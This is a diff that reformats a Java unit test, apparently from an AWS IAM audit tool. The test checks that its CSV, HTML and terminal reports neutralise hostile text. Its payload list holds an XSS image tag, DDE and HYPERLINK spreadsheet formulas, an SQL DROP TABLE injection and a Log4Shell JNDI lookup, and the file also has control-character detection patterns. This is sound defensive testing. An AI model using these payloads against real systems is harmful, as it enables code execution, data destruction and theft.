@@ -22,9 +22,9 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.MethodSource;
 
 /**
- * Text that people put in tags, exemption reasons and user names, at its worst, driven through every
- * renderer: no cell may run as a formula, no markup may become live, no control character may reach
- * a terminal, and nothing may be lost.
+ * Text that people put in tags, exemption reasons and user names, at its worst, driven through
+ * every renderer: no cell may run as a formula, no markup may become live, no control character may
+ * reach a terminal, and nothing may be lost.
  */
 class HostileTextTest {
   private static final String ACCOUNT = "999999999999";
@@ -38,7 +38,11 @@ class HostileTextTest {
         "\"><img src=x onerror=alert(1)>",
         "=cmd|' /C calc'!A0",
         "=HYPERLINK(\"http://evil\",\"click\")",
-        "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
         "'; DROP TABLE findings; --",
         "${jndi:ldap://x.example/a}",
         "\u009b2J\u0085next",
@@ -51,13 +55,23 @@ class HostileTextTest {
   void csvReport_whenTextIsHostile_keepsOneRowOfTextCellsThatLoseNothing(String value) {
     StoredFinding f = stored(value);
 
-    String csv = CsvReport.render(List.of(f), Map.of(ACCOUNT, value), Map.of(ACCOUNT + "/" + value, value));
+    String csv =
+        CsvReport.render(List.of(f), Map.of(ACCOUNT, value), Map.of(ACCOUNT + "/" + value, value));
 
     List<List<String>> rows = parse(csv);
     assertThat(rows).hasSize(2);
     assertThat(rows.get(1)).hasSameSizeAs(CsvReport.COLUMNS);
-    rows.get(1).forEach(cell -> assertThat(cell).as("cell %s", cell).doesNotStartWith("=").doesNotStartWith("+")
-        .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r"));
+    rows.get(1)
+        .forEach(
+            cell ->
+                assertThat(cell)
+                    .as("cell %s", cell)
+                    .doesNotStartWith("=")
+                    .doesNotStartWith("+")
+                    .doesNotStartWith("-")
+                    .doesNotStartWith("@")
+                    .doesNotStartWith("\t")
+                    .doesNotStartWith("\r"));
     assertThat(rows.get(1).stream().map(HostileTextTest::undefused)).contains(value);
   }
 
@@ -68,7 +82,10 @@ class HostileTextTest {
 
     assertThat(rows).hasSize(2);
     assertThat(rows.get(1)).hasSize(8);
-    rows.get(1).forEach(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@"));
+    rows.get(1)
+        .forEach(
+            cell ->
+                assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@"));
     assertThat(rows.get(1).stream().map(HostileTextTest::undefused)).contains(value);
   }
 
@@ -77,40 +94,79 @@ class HostileTextTest {
   void findingsTable_whenTextIsHostile_sendsNoControlCharacterToTheTerminal(String value) {
     String table = FindingsOutput.table(result(value), false);
 
-    assertThat(table.replace("\n", "")).doesNotContainPattern("[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f\\u202a-\\u202e\\u2066-\\u2069]");
+    assertThat(table.replace("\n", ""))
+        .doesNotContainPattern("[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f\\u202a-\\u202e\\u2066-\\u2069]");
   }
 
   @ParameterizedTest
   @MethodSource("hostile")
   void htmlReport_whenTextIsHostile_showsItAsTextOnly(String value) {
     StoredFinding f = stored(value);
-    ReportInput input = new ReportInput(ReportFixtures.WEEK, GENERATED,
-        List.of(ReportFixtures.Run.of(ACCOUNT, WEEK_START).failed(value).build()), List.of(), Map.of(), List.of(f),
-        Map.of(ACCOUNT, value), Set.of(ACCOUNT), Map.of(ReportInput.ownerKey(ACCOUNT, value), value));
+    ReportInput input =
+        new ReportInput(
+            ReportFixtures.WEEK,
+            GENERATED,
+            List.of(ReportFixtures.Run.of(ACCOUNT, WEEK_START).failed(value).build()),
+            List.of(),
+            Map.of(),
+            List.of(f),
+            Map.of(ACCOUNT, value),
+            Set.of(ACCOUNT),
+            Map.of(ReportInput.ownerKey(ACCOUNT, value), value));
 
     String html = HtmlReport.render(WeeklyReportBuilder.build(input));
 
-    assertThat(html).doesNotContainPattern("(?i)<script|<img")
+    assertThat(html)
+        .doesNotContainPattern("(?i)<script|<img")
         .doesNotContainPattern("[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f\\u202a-\\u202e\\u2066-\\u2069]")
-        .contains(Html.escape(value).length() > 60 ? Html.escape(value).substring(0, 60) : Html.escape(value));
+        .contains(
+            Html.escape(value).length() > 60
+                ? Html.escape(value).substring(0, 60)
+                : Html.escape(value));
   }
 
   private static StoredFinding stored(String value) {
-    return new StoredFinding(ACCOUNT, "key-expired", "arn:aws:iam::" + ACCOUNT + ":user/" + value + "#access_key_1",
-        value, Severity.HIGH, "Access key expired", value, FindingStatus.OPEN, WEEK_START, Optional.empty(),
-        Optional.of(GENERATED.plus(Duration.ofDays(1))), Optional.empty(), Optional.of(value), 1);
+    return new StoredFinding(
+        ACCOUNT,
+        "key-expired",
+        "arn:aws:iam::" + ACCOUNT + ":user/" + value + "#access_key_1",
+        value,
+        Severity.HIGH,
+        "Access key expired",
+        value,
+        FindingStatus.OPEN,
+        WEEK_START,
+        Optional.empty(),
+        Optional.of(GENERATED.plus(Duration.ofDays(1))),
+        Optional.empty(),
+        Optional.of(value),
+        1);
   }
 
   private static AuditResult result(String value) {
-    Finding f = new Finding("key-expired", Severity.HIGH, ACCOUNT, value, "arn:aws:iam::" + ACCOUNT + ":user/" + value,
-        "Access key expired", value, Optional.empty());
-    return new AuditResult(ACCOUNT, WEEK_START, List.of(f),
-        List.of(new ExemptedFinding(f, LocalDate.parse("2026-12-31"), value)), Map.of());
+    Finding f =
+        new Finding(
+            "key-expired",
+            Severity.HIGH,
+            ACCOUNT,
+            value,
+            "arn:aws:iam::" + ACCOUNT + ":user/" + value,
+            "Access key expired",
+            value,
+            Optional.empty());
+    return new AuditResult(
+        ACCOUNT,
+        WEEK_START,
+        List.of(f),
+        List.of(new ExemptedFinding(f, LocalDate.parse("2026-12-31"), value)),
+        Map.of());
   }
 
   /** A cell as the spreadsheet shows it once the defusing apostrophe is seen for what it is. */
   private static String undefused(String cell) {
-    return cell.length() > 1 && cell.charAt(0) == '\'' && "=+-@\t\r".indexOf(cell.charAt(1)) >= 0 ? cell.substring(1) : cell;
+    return cell.length() > 1 && cell.charAt(0) == '\'' && "=+-@\t\r".indexOf(cell.charAt(1)) >= 0
+        ? cell.substring(1)
+        : cell;
   }
 
   /** RFC 4180, strictly: what a spreadsheet reads. */
